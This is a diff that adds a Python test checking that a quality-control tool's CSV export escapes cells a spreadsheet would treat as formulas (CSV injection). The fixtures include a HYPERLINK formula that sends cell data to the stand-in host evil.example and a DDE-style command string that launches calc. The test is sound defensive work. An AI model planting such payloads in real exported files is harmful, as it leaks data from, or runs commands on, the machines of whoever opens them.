@@ -494,6 +494,32 @@ def test_cli_results_list_prints_the_stored_decisions(tmp_path: Path, capsys: py
     assert json.loads(capsys.readouterr().out.splitlines()[-1])["missing_image"] == 1
 
 
+def test_cli_results_list_csv_keeps_a_spreadsheet_from_running_what_a_client_sent(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """The CSV is a shift's report for a spreadsheet, and part ids, lines and review notes come
+    from clients and operators: a text cell that a spreadsheet would run as a formula (=, +, -,
+    @; OWASP's CSV injection) is written with a leading apostrophe, shown as typed. Numbers and
+    the JSON lines are as stored."""
+    import csv
+    import json
+
+    from diffqc.cli import main
+
+    db = tmp_path / "line.db"
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
+    with ResultStore(str(db)) as store:
+        store.insert_many([_rec(formula, "REVIEW", line="@SUM(1)", score=-1.5)])
+        store.set_review(1, "BAD", "-ann", "+cmd|' /C calc'!A0")
+    assert main(["results", "list", "--db", str(db), "--format", "csv"]) == 0
+    (row,) = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert row["part_id"] == "'" + formula and row["line"] == "'@SUM(1)"
+    assert row["reviewer"] == "'-ann" and row["review_note"] == "'+cmd|' /C calc'!A0"
+    assert float(row["score"]) == -1.5 and row["decision"] == "REVIEW"
+    assert main(["results", "list", "--db", str(db)]) == 0
+    (record,) = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
+    assert record["part_id"] == formula and record["reviewer"] == "-ann"
+
+
 def test_store_urls() -> None:
     assert sqlite_path("sqlite:////abs/x.db") == Path("/abs/x.db")
     assert sqlite_path("rel/x.db") == Path("rel/x.db")
